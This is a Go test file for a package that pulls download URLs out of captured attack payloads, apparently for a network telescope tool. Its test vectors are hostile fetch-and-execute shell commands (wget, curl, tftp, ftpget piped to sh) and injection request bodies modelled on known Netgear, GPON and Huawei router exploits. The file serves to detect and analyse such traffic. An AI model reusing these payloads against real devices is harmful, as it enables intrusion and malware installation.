package urls

import (
	"strings"
	"testing"
)

// The vectors: first one per rule of Spoki's clean (clean_pl, detection,
// the piece parser and its argparse semantics, with the original's bugs
// fixed as the package doc says), then the added forms. want lists the
// downloads as `spoki urls` prints them.
var vectors = []struct {
	name    string
	payload string
	want    []string
}{
	// clean's clean_pl and detection.
	{"plain wget", "wget http://1.2.3.4/x.sh", []string{"wget|http://1.2.3.4/x.sh|1.2.3.4|80|x.sh"}},
	{"example telescope payload", "wget http://141.22.28.35/evil", []string{"wget|http://141.22.28.35/evil|141.22.28.35|80|evil"}},
	{"https stays https", "wget https://evil.example.com/a", []string{"wget|https://evil.example.com/a|evil.example.com|443|a"}},
	{"port is a number", "wget http://1.2.3.4:8080/bins/mips", []string{"wget|http://1.2.3.4:8080/bins/mips|1.2.3.4|8080|mips"}},
	{"trailing double quote", `sh -c "wget http://1.2.3.4/x"`, []string{"wget|http://1.2.3.4/x|1.2.3.4|80|x"}},
	{"single quotes", `sh -c 'cd /tmp; wget http://1.2.3.4/q'`, []string{"wget|http://1.2.3.4/q|1.2.3.4|80|q"}},
	{"unquote_plus", "cd+/tmp%3B+wget+http%3A%2F%2F1.2.3.4%2Fx", []string{"wget|http://1.2.3.4/x|1.2.3.4|80|x"}},
	{"semicolon", "cd /tmp;wget http://1.2.3.4/s;chmod 777 s", []string{"wget|http://1.2.3.4/s|1.2.3.4|80|s"}},
	{"backticks", "`wget http://1.2.3.4/z`", []string{"wget|http://1.2.3.4/z|1.2.3.4|80|z"}},
	{"escaped CR LF as text", `wget http://1.2.3.4/a\r\n`, []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a"}},
	{"tab and newline", "cd /tmp\nwget\thttp://1.2.3.4/t\r\n", []string{"wget|http://1.2.3.4/t|1.2.3.4|80|t"}},
	{"backslashes removed", `wget http:\/\/1.2.3.4\/b`, []string{"wget|http://1.2.3.4/b|1.2.3.4|80|b"}},
	{"parenthesis", "$(wget http://1.2.3.4/p)", []string{"wget|http://1.2.3.4/p|1.2.3.4|80|p"}},
	{"space after scheme", "wget http:// 1.2.3.4/x", []string{"wget|http://1.2.3.4/x|1.2.3.4|80|x"}},
	{"ampersand", "wget http://1.2.3.4/m&&sh m", []string{"wget|http://1.2.3.4/m|1.2.3.4|80|m"}},
	{"ends with wget", "which wget", nil},
	{"curl user agent only", "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: curl/7.68.0\r\n\r\n", nil},
	{"libcurl agent only", "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 libcurl/7.1\r\n\r\n", nil},
	{"no downloader", "GET / HTTP/1.1\r\nHost: 1.2.3.4\r\n\r\n", nil},
	{"two wget pieces", "wget http://a.example/x; wget http://b.example/y", []string{"wget|http://a.example/x|a.example|80|x", "wget|http://b.example/y|b.example|80|y"}},
	{"wget and curl", "wget http://1.2.3.4/a || curl http://1.2.3.4/a", []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a", "curl|http://1.2.3.4/a|1.2.3.4|80|a"}},
	{"duplicate reported once", "wget http://1.2.3.4/a; wget http://1.2.3.4/a", []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a"}},
	{"scheme-less", "wget 1.2.3.4/x.sh", []string{"wget|http://1.2.3.4/x.sh|1.2.3.4|80|x.sh"}},
	// clean's piece parser: argparse semantics.
	{"wget ghost local remote", "/bin/busybox wget -g 45.14.224.220 -l /tmp/skere -r /mips", []string{"wget|http://45.14.224.220/mips|45.14.224.220|80|mips"}},
	{"wget --ghost= and path join", "wget --ghost=1.2.3.4 -r bins/arm", []string{"wget|http://1.2.3.4/bins/arm|1.2.3.4|80|arm"}},
	{"long option prefix", "wget --gh 1.2.3.4 -r x", []string{"wget|http://1.2.3.4/x|1.2.3.4|80|x"}},
	{"inline short value", "wget -O/tmp/a http://1.2.3.4/a", []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a"}},
	{"unknown flag ignored", "wget -c http://1.2.3.4/a", []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a"}},
	{"lone dash is a value", "wget -O - http://1.2.3.4/a", []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a"}},
	{"no positional (orig IndexError)", "wget -q", nil},
	{"missing option value (orig SystemExit)", "wget -O", nil},
	{"curl -O is a flag", "curl -O http://1.2.3.4/x", []string{"curl|http://1.2.3.4/x|1.2.3.4|80|x"}},
	{"curl -fsSL", "curl -fsSL http://1.2.3.4/i.sh | sh", []string{"curl|http://1.2.3.4/i.sh|1.2.3.4|80|i.sh"}},
	{"curl -A value", "curl -A Mozilla http://1.2.3.4/x", []string{"curl|http://1.2.3.4/x|1.2.3.4|80|x"}},
	{"curl only options", "curl -s", nil},
	// Fixed bugs and added forms.
	{"curl -o FILE URL", "curl -o /tmp/x http://1.2.3.4/x", []string{"curl|http://1.2.3.4/x|1.2.3.4|80|x"}},
	{"curl URL -o FILE", "curl http://1.2.3.4/x -o /tmp/x;chmod 777 /tmp/x", []string{"curl|http://1.2.3.4/x|1.2.3.4|80|x"}},
	{"curl -sLo cluster", "curl -sLo /tmp/k https://raw.example.org/a/k.sh", []string{"curl|https://raw.example.org/a/k.sh|raw.example.org|443|k.sh"}},
	{"wget -O- URL | sh", "wget -O- http://1.2.3.4/x.sh | sh", []string{"wget|http://1.2.3.4/x.sh|1.2.3.4|80|x.sh"}},
	{"wget -qO- attached pipe", "wget -qO- http://1.2.3.4/x.sh|sh", []string{"wget|http://1.2.3.4/x.sh|1.2.3.4|80|x.sh"}},
	{"wget -P DIR", "wget -P /tmp http://1.2.3.4/a", []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a"}},
	{"wget --user-agent=", "wget --user-agent=foo http://1.2.3.4/a", []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a"}},
	{"IFS braces", "cd${IFS}/tmp;wget${IFS}http://1.2.3.4/y", []string{"wget|http://1.2.3.4/y|1.2.3.4|80|y"}},
	{"IFS bare", "wget$IFS'http://1.2.3.4/q'", []string{"wget|http://1.2.3.4/q|1.2.3.4|80|q"}},
	{"busybox wget", "busybox wget http://1.2.3.4/b -O /tmp/b", []string{"wget|http://1.2.3.4/b|1.2.3.4|80|b"}},
	{"busybox curl", "/bin/busybox curl http://1.2.3.4/c", []string{"curl|http://1.2.3.4/c|1.2.3.4|80|c"}},
	{"tftp -g -r FILE HOST", "tftp -g -r mips 1.2.3.4", []string{"tftp|tftp://1.2.3.4/mips|1.2.3.4|69|mips"}},
	{"busybox tftp with port", "busybox tftp -l /tmp/t -r t8 -g 1.2.3.4 6969", []string{"tftp|tftp://1.2.3.4:6969/t8|1.2.3.4|6969|t8"}},
	{"classic tftp -c get", "tftp 1.2.3.4 -c get t.sh", []string{"tftp|tftp://1.2.3.4/t.sh|1.2.3.4|69|t.sh"}},
	{"ftpget with options", "ftpget -v -u anonymous -p anonymous -P 2121 1.2.3.4 f.sh f.sh", []string{"ftpget|ftp://1.2.3.4:2121/f.sh|1.2.3.4|2121|f.sh"}},
	{"busybox ftpget one file", "busybox ftpget 1.2.3.4 x.sh", []string{"ftpget|ftp://1.2.3.4/x.sh|1.2.3.4|21|x.sh"}},
	{"netgear request line", "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4:8088/Mozi.m+-O+/tmp/netgearb;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n",
		[]string{"wget|http://1.2.3.4:8088/Mozi.m|1.2.3.4|8088|Mozi.m"}},
	{"gpon body", "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://1.2.3.4/gpon+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0",
		[]string{"wget|http://1.2.3.4/gpon|1.2.3.4|80|gpon"}},
	{"percent-encoded body", "cmd=wget%20http%3A%2F%2F1.2.3.4%2Fx.sh%20-O%20-%7Csh", []string{"wget|http://1.2.3.4/x.sh|1.2.3.4|80|x.sh"}},
	{"json body", `{"am-container-spec": {"commands": {"command": "wget http://1.2.3.4/y.sh -O /tmp/y; sh /tmp/y"}}}`, []string{"wget|http://1.2.3.4/y.sh|1.2.3.4|80|y.sh"}},
	{"huawei xml body", "<NewStatusURL>$(/bin/busybox wget -g 45.14.224.220 -l /tmp/skere -r /mips;/tmp/skere huawei.rep)</NewStatusURL>",
		[]string{"wget|http://45.14.224.220/mips|45.14.224.220|80|mips"}},
	{"IPv6 literal", "wget http://[2001:db8::1]/x.sh", []string{"wget|http://[2001:db8::1]/x.sh|2001:db8::1|80|x.sh"}},
	{"IPv6 literal with port", "curl -o x http://[2001:db8::2]:8080/x", []string{"curl|http://[2001:db8::2]:8080/x|2001:db8::2|8080|x"}},
	{"tftp IPv6 host", "tftp -g -r x 2001:db8::3", []string{"tftp|tftp://[2001:db8::3]/x|2001:db8::3|69|x"}},
	{"port not a number", "wget http://1.2.3.4:abc/x", nil},
	{"userinfo not in server", "wget ftp://user:pass@1.2.3.4/x", []string{"wget|ftp://1.2.3.4/x|1.2.3.4|21|x"}},
	{"name without query", "wget http://1.2.3.4/dl?f=a.sh", []string{"wget|http://1.2.3.4/dl?f=a.sh|1.2.3.4|80|dl"}},
	{"empty name", "wget http://1.2.3.4/", []string{"wget|http://1.2.3.4/|1.2.3.4|80|"}},
	{"unknown scheme", "wget gopher://1.2.3.4/x", nil},
	// Hosts that wget and curl reach although they are no DNS name: they
	// become URLs, and the downloader refuses them by address.
	{"localhost", "wget http://localhost:8080/x", []string{"wget|http://localhost:8080/x|localhost|8080|x"}},
	{"localhost without scheme", "curl localhost/y", []string{"curl|http://localhost/y|localhost|80|y"}},
	{"decimal IPv4", "wget http://2130706433/d", []string{"wget|http://2130706433/d|2130706433|80|d"}},
	{"hex IPv4", "wget http://0x7f000001/h", []string{"wget|http://0x7f000001/h|0x7f000001|80|h"}},
	{"octal IPv4", "wget http://017700000001/o", []string{"wget|http://017700000001/o|017700000001|80|o"}},
	{"dotted octal IPv4", "wget http://0177.0.0.1/o", []string{"wget|http://0177.0.0.1/o|0177.0.0.1|80|o"}},
	{"decimal without scheme is no URL", "wget 2130706433", nil},
	{"number too large is no host", "wget http://4294967296/x", nil},
	{"invalid utf-8", "wget http://1.2.3.4/\xff\xfe", []string{"wget|http://1.2.3.4/\ufffd\ufffd|1.2.3.4|80|\ufffd\ufffd"}},
}

func TestExtract(t *testing.T) {
	if len(vectors) < 40 {
		t.Fatalf("%d vectors, want at least 40", len(vectors))
	}
	for _, tc := range vectors {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, d := range Extract([]byte(tc.payload)) {
				got = append(got, d.String())
			}
			if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
				t.Errorf("Extract(%q) = %q, want %q", tc.payload, got, tc.want)
			}
		})
	}
}

func FuzzExtract(f *testing.F) {
	for _, tc := range vectors {
		f.Add([]byte(tc.payload))
	}
	f.Fuzz(func(t *testing.T, payload []byte) {
		for _, d := range Extract(payload) {
			if d.Port <= 0 || d.Port > 65535 || d.URL == "" || d.Server == "" {
				t.Fatalf("Extract(%q) gave %+v", payload, d)
			}
			if !strings.Contains(d.URL, "://") {
				t.Fatalf("Extract(%q): URL %q without scheme", payload, d.URL)
			}
		}
	})
}
